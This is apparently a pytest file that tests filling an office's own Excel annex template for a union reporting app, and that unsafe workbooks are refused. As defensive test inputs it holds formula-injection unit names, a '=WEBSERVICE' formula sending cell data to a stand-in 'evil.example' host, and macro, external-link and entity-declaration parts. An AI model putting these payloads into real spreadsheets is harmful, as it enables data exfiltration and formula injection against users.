"""The annex in an office's own workbook: checked by name, filled, its look and formulas kept."""

import datetime as dt
import io

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from caunoi.base.errors import HouseError, Invalid, Refused
from caunoi.base.periods import Period
from caunoi.base.sheets_filled import Linked, fill_book, open_book
from caunoi.base.workbook_files import NotAWorkbook, TooLarge
from caunoi.journal.models import Operation
from caunoi.journal.undo import undo
from caunoi.org.actions import NewUnit, found
from caunoi.reports.annex import check, starter
from caunoi.reports.making import make
from caunoi.reports.own_forms import adopt, drop, in_force
from caunoi.reports.report import REPORTS
from caunoi.reports.tests.test_content import people
from caunoi.reports.tests.test_own_forms import OURS, part_of, with_parts

REPORT = REPORTS["term"]
DAY = dt.date(2024, 1, 1)
YEAR = Period.of_year(2024)


def saved(book):
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def written(cells, change=None):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Phụ lục"
    for place, text in cells.items():
        sheet[place] = text
    if change:
        change(sheet)
    return saved(book)


LIST = {
    "A1": "{{ ten_co_quan }}", "A2": "Có {{ members_total }} đoàn viên",
    "B2": "{{ members_total }}",
    "A4": "TT", "B4": "Đơn vị", "C4": "Đoàn viên", "D4": "Tỷ trọng",
    "A5": "{{ moi_don_vi.tt }}", "B5": "{{ moi_don_vi.ten }}",
    "C5": "{{ moi_don_vi.members_total }}",
    "D5": "=C5/C$6", "E5": "=RANK(C5,C$5:C$5)",
    "B6": "Cộng", "C6": "=SUM(C5:C5)", "C7": "=C6-B2",
}  # fmt: skip


def look(sheet):
    sheet["C5"].font = Font(bold=True, color="FFC00000")
    sheet["C5"].number_format = "#,##0.00"
    sheet.row_dimensions[5].height = 31
    sheet.row_dimensions[6].height = 17
    sheet.merge_cells("A7:B7")
    sheet.merge_cells("E5:F5")
    sheet.print_area = "A1:F7"
    sheet.print_title_rows = "4:4"
    sheet.page_setup.orientation = "landscape"
    sheet.freeze_panes = "A5"
    sheet.conditional_formatting.add(
        "C5", CellIsRule(operator="greaterThan", formula=["2"], fill=PatternFill("solid"))
    )
    choice = DataValidation("list", '"a,b"')
    choice.add("G5")
    sheet.add_data_validation(choice)
    sheet["A7"].hyperlink = "https://congdoan.vn/"


OWN = written(LIST, look)


def adopted(house, data=OWN, by=None, unit=None, since=DAY):
    return adopt(report=REPORT, unit=unit or house.upper, data=data, name="phu-luc.xlsx",
                 since=since, by=by or house.console, ending="xlsx")  # fmt: skip


def annex_of(house, unit=None, period=YEAR, **more):
    data = make(REPORT, unit=unit or house.upper, period=period, ending="xlsx",
                by=more.pop("by", house.console), **more)  # fmt: skip
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_a_row_is_repeated_for_each_unit_and_what_stands_below_moves(house):
    adopted(house)
    sheet = annex_of(house)
    told = [[cell.value for cell in row[:5]] for row in sheet.iter_rows(min_row=5, max_row=9)]
    assert told == [
        [1, "CĐCS Sở Phía Bắc", 2, "=C5/C$8", "=RANK(C5,C$5:C$7)"],
        [2, "CĐCS Sở Phía Nam", 2, "=C6/C$8", "=RANK(C6,C$5:C$7)"],
        [3, "CĐCS Sở Phía Tây", 2, "=C7/C$8", "=RANK(C7,C$5:C$7)"],
        [None, "Cộng", "=SUM(C5:C7)", None, None],
        ["https://congdoan.vn/", None, "=C8-B2", None, None],
    ]
    assert sheet["A1"].value == "CÔNG ĐOÀN VIÊN CHỨC TỈNH"
    assert (sheet["A2"].value, sheet["B2"].value) == ("Có 6 đoàn viên", 6)
    assert sheet["C6"].hyperlink.target.endswith("/figures/members.total/?unit=SOUTH&period=2024")


def test_the_office_keeps_its_look_its_rules_and_its_paper(house):
    adopted(house)
    sheet = annex_of(house)
    for row in (5, 6, 7):
        cell = sheet.cell(row, 3)
        assert (cell.font.b, cell.number_format) == (True, "#,##0.00")
        assert sheet.row_dimensions[row].height == 31
    assert sheet.row_dimensions[8].height == 17
    merged = {area.coord for area in sheet.merged_cells.ranges}
    assert merged == {"A9:B9", "E5:F5", "E6:F6", "E7:F7"}
    assert sheet.print_area == "'Phụ lục'!$A$1:$F$9" and sheet.print_title_rows == "$4:$4"
    assert sheet.page_setup.orientation == "landscape" and sheet.freeze_panes == "A5"
    assert [str(one.sqref) for one in sheet.conditional_formatting] == ["C5:C7"]
    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["G5:G7"]
    assert sheet["A9"].hyperlink.target == "https://congdoan.vn/"


def test_a_row_is_repeated_for_each_year(house):
    adopted(house, written({"A1": "{{ moi_nam.ten }}", "B1": "{{ moi_nam.members_total }}"}))
    sheet = annex_of(house, period=Period.parse("2022..2024"))
    assert [[c.value for c in row] for row in sheet.rows] == [["2022", 6], ["2023", 6], ["2024", 6]]


def test_other_sheets_and_names_follow(house):
    book = openpyxl.load_workbook(io.BytesIO(OWN))
    other = book.create_sheet("Tổng hợp")
    other["A1"] = "=SUM('Phụ lục'!C5:C5)+'Phụ lục'!C6+C5"
    book.defined_names["Tong"] = openpyxl.workbook.defined_name.DefinedName(
        "Tong", attr_text="'Phụ lục'!$C$5:$C$5"
    )
    adopted(house, saved(book))
    sheet = annex_of(house)
    assert sheet.parent["Tổng hợp"]["A1"].value == "=SUM('Phụ lục'!C5:C7)+'Phụ lục'!C8+C5"
    assert sheet.parent.defined_names["Tong"].attr_text == "'Phụ lục'!$C$5:$C$7"


def test_text_of_the_data_never_becomes_a_formula(house):
    new = [NewUnit(name, "grassroots", dt.date(2020, 1, 1), house.upper)
           for name in ("=HYPERLINK(\"http://evil.example\")", "+1+1", "@SUM(1)")]  # fmt: skip
    found(units=new, by=house.console)
    adopted(house)
    names = [row[1] for row in annex_of(house).iter_rows(min_row=5, max_row=10)]
    assert {cell.value for cell in names} >= {one.name for one in new}
    assert {cell.data_type for cell in names} == {"s"}


def test_a_unit_without_units_below_keeps_an_empty_row(house):
    adopted(house)
    sheet = annex_of(house, unit=house.west)
    assert [cell.value for cell in sheet[5][:3]] == [None, None, None]
    assert sheet["C6"].value == "=SUM(C5:C5)" and sheet["B2"].value == 2


def test_what_is_not_told_stays_words_and_a_mark_stands_beside_the_number():
    data = written({"A1": "{{ a }}", "A2": "{{ b }}", "A3": "{{ c }}"})
    marked = Linked("", "5 (kế thừa)", 5, " (kế thừa)")
    told = {"a": Linked("", "dưới 5"), "b": marked, "c": "x\x00y"}
    made = fill_book(open_book(data), told, {}, title="T")
    sheet = openpyxl.load_workbook(io.BytesIO(made)).active
    assert [sheet[f"A{n}"].value for n in (1, 2, 3)] == ["dưới 5", 5, "xy"]
    assert sheet["A2"].number_format == '#,##0" (kế thừa)"'


def test_who_may_only_count_reads_no_small_number_in_it_and_a_stranger_nothing(house):
    adopted(house, written({"A1": "{{ members_party_share }}", "A2": "{{ nguoi_ky }}"}))
    people(house, house.north, 30, party=3)
    sheet = annex_of(house, unit=house.north, by=house.dung)
    assert (sheet["A1"].value, sheet["A2"].value) == ("không nêu", None)
    with pytest.raises(Refused):
        annex_of(house, unit=house.north, by=house.chi)


@pytest.mark.parametrize(
    ("cells", "told"),
    [
        ({"B3": "{{ khong_co }}"}, r"Phụ lục!B3.*khong_co"),
        ({"A1": "{{ moi_don_vi.khong_co }}"}, r"A1.*moi_don_vi\.khong_co"),
        ({"A1": "{{ members_total.ten }}"}, r"members_total\.ten"),
        ({"A1": "{{ tinh_hinh }}"}, "tinh_hinh"),
        ({"A1": "{{ don_vi|upper }}"}, "a name alone"),
        ({"A1": "{% for x in y %}"}, "a name alone"),
        ({"A1": "{{ don_vi"}, "a name alone"),
        ({"A1": '="{{ don_vi }}"'}, "a formula"),
        ({"A1": "{{ don_vi }}", "A2": '=WEBSERVICE("http://evil.example/"&A1)'}, "fetches nothing"),
        ({"A1": "{{ moi_nam.tt }}", "B1": "{{ moi_don_vi.tt }}"}, "repeated in two ways"),
        ({"A1": "không có gì"}, "no placeholder"),
    ],
)
def test_what_it_does_not_know_is_named_with_its_cell(cells, told):
    with pytest.raises(Invalid, match=told):
        check(REPORT, written(cells), "phụ lục.xlsx")


def charted(sheet):
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=3, min_row=5))
    sheet.add_chart(chart, "H1")


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "no Excel workbook"),
        (b"a;b", "no Excel workbook"),
        (OURS, "no Excel workbook"),
        (OWN[: len(OWN) // 2], "damaged"),
        (with_parts(OWN, **{"xl/vbaProject.bin": b"x"}), "macro"),
        (with_parts(OWN, **{"xl/externalLinks/externalLink1.xml": b"<x/>"}), "another file"),
        (with_parts(OWN, **{"xl/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "damaged"),
        (written(LIST, charted), "chart"),
    ],
    ids=range(8),
)
def test_what_is_no_plain_workbook_is_refused_clearly(data, told):
    with pytest.raises(NotAWorkbook, match=told):
        check(REPORT, data, "phụ lục.xlsx")


def test_a_workbook_that_is_too_large_is_refused():
    with pytest.raises(TooLarge):
        check(REPORT, b"PK" + b"x" * (5 * 1024 * 1024), "phụ lục.xlsx")


@settings(max_examples=30, deadline=None)
@given(st.integers(0, len(OWN) - 1), st.binary(min_size=1, max_size=6))
def test_a_damaged_file_is_refused_or_read_and_never_a_crash(place, noise):
    data = OWN[:place] + noise + OWN[place + len(noise) :]
    try:
        check(REPORT, data, "phụ lục.xlsx")
    except HouseError:
        return


def test_an_area_filled_by_one_formula_follows(house):
    def fill(sheet):
        sheet["F5"] = ArrayFormula("F5", "=SUM(C5*1)")
        sheet["F6"] = ArrayFormula("F6:F7", "=C5:C5*1")

    adopted(house, written(LIST, fill))
    sheet = annex_of(house)
    told = [(sheet[f"F{n}"].value.ref, sheet[f"F{n}"].value.text) for n in (5, 7, 8)]
    assert told == [("F5", "=SUM(C5*1)"), ("F7", "=SUM(C7*1)"), ("F8:F9", "=C5:C7*1")]


def test_the_workbook_to_begin_with_passes_the_check_and_is_filled(house):
    for report in REPORTS.values():
        assert check(report, starter(report), "mau.xlsx")
    adopted(house, starter(REPORT))
    book = annex_of(house).parent
    assert book["Theo đơn vị"]["B2"].value == "CĐCS Sở Phía Bắc"
    assert book["Theo đơn vị"]["C2"].value == 2
    assert [c.value for c in book["Qua các năm"]["B"]] == ["Năm", *map(str, range(2020, 2025))]


def test_word_and_excel_have_templates_of_their_own_that_are_given_up_and_undone(house):
    kept = adopted(house, by=house.organiser)
    assert in_force(REPORT, house.upper) is None
    assert in_force(REPORT, house.north, ending="xlsx") == kept
    drop(report=REPORT, unit=house.upper, on=dt.date(2024, 6, 1), by=house.organiser, ending="xlsx")
    assert annex_of(house).title == "Số liệu"
    undo(Operation.objects.latest("pk").pk, by=house.organiser)
    assert annex_of(house).title == "Phụ lục"
    with pytest.raises(Refused):
        adopted(house, by=house.binh)
    data = make(REPORT, unit=house.upper, period=YEAR, ending="docx", by=house.console)
    assert part_of(data, "word/document.xml")
